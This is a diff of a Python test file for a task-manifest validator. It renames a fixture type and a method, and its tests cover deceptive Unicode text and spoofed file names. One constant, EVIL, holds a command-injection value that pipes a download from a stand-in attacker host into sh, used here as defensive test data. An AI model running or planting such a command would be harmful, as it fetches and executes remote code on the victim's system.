@@ -28,7 +28,7 @@ from tests.proof.trust.repository import TASK
 from tests.reconcile.world import EPOCH
 
 if TYPE_CHECKING:
-    from tests.proof.trust.repository import Repository
+    from tests.projects import Project
 
 NOW = EPOCH + timedelta(hours=2)
 EVIL = "; curl https://evil.example/x | sh"
@@ -237,9 +237,9 @@ DECEPTIVE = {
 
 
 @pytest.mark.parametrize("field", DECEPTIVE)
-def test_a_manifest_that_deceives_gets_a_warning_and_no_more(repository: Repository, field: str) -> None:
+def test_a_manifest_that_deceives_gets_a_warning_and_no_more(repository: Project, field: str) -> None:
     repository.write("tasks/train.yaml", DECEPTIVE[field])
-    ended = repository.run("validate", "--format", "json")
+    ended = repository.attempt("validate", "--format", "json")
     document = json.loads(ended.out)
     [found] = document["diagnostics"]
     assert (found["code"], found["severity"], ended.code) == ("JS122", "warning", 0)
@@ -247,20 +247,20 @@ def test_a_manifest_that_deceives_gets_a_warning_and_no_more(repository: Reposit
     assert not any(deceptive_places(line) for line in ended.printed.splitlines())
 
 
-def test_honest_text_in_a_manifest_is_no_warning(repository: Repository) -> None:
+def test_honest_text_in_a_manifest_is_no_warning(repository: Project) -> None:
     described = '{name: train, description: "обучение 训练 👨\u200d👩 ❤\ufe0f pyth\u043en"}'
     task = TASK.replace("{name: train}", described)
     repository.write(
         "tasks/train.yaml", task + '  env: {PROMPT: "Привет 👨\u200d👩"}\n  args: --prompt Привет\n'
     )
-    ended = repository.run("validate")
+    ended = repository.attempt("validate")
     assert (ended.code, ended.out) == (0, "")
 
 
-def test_a_file_name_does_not_hide_either(repository: Repository) -> None:
+def test_a_file_name_does_not_hide_either(repository: Project) -> None:
     repository.write("tasks/tr\u0430in\u200b.yaml", "kind: [\n")
     for form in ("json", "github", "concise", "full"):
-        ended = repository.run("validate", "--format", form)
+        ended = repository.attempt("validate", "--format", form)
         assert ended.code == 1
         assert "tr\\u0430in\\u200b.yaml" in ended.out
         assert not any(deceptive_places(line) for line in ended.printed.splitlines())
